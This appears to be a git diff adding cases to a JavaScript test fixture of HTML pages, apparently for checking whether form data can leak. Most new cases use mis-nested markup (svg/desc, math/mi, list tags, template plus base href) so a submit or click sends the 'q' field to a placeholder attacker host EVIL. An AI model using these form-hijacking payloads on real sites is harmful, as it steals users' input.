@@ -49,6 +49,35 @@ const PAGES = {
     html: `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><form id="g" action="${EVIL}"><button>Send</button></form><svg><svg><p><textarea name="t" form="g"></svg></svg>`,
     click: "text=Send",
   },
+  "/svg-desc": {
+    html: `<form method="post" action="/orders"><input name="q"><div><svg><desc></div></form></desc></svg><button formmethod="get" formaction="${EVIL}">Look</button>`,
+    click: "text=Look",
+  },
+  "/math-mi": {
+    html: `<form method="post" action="/orders"><input name="q"><div><math><mi></div></form></mi></math><button formmethod="get" formaction="${EVIL}">Look</button>`,
+    click: "text=Look",
+  },
+  "/li-ul": {
+    html: `<form method="post" action="/orders"><input name="q"><li><ul></li></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
+    click: "text=Look",
+  },
+  "/dd-dt": {
+    html: `<form method="post" action="/orders"><input name="q"><dd><dt><div></dd></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
+    click: "text=Look",
+  },
+  "/span-p": {
+    html: `<form method="post" action="/orders"><input name="q"><span><p></span></form><button formmethod="get" formaction="${EVIL}">Look</button>`,
+    click: "text=Look",
+  },
+  "/template-base": {
+    html: `<div><template></div><base href="/"></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
+    click: "text=Pay",
+  },
+  "/sloppy-but-alike": {
+    html: `<form method="post" action="/orders"><table><tr><td><input name="q"></table><div><span>Total</div><ul><li>one<li>two</ul><p>Note<button>Pay</button></form>`,
+    click: "text=Pay",
+    posts: true,
+  },
   "/ends-in-tag": {
     html: `<form method="post" action="/orders" id="x"><input name="q"></form><button name="k" formmethod="get" formaction="${EVIL}" `,
     enter: true,
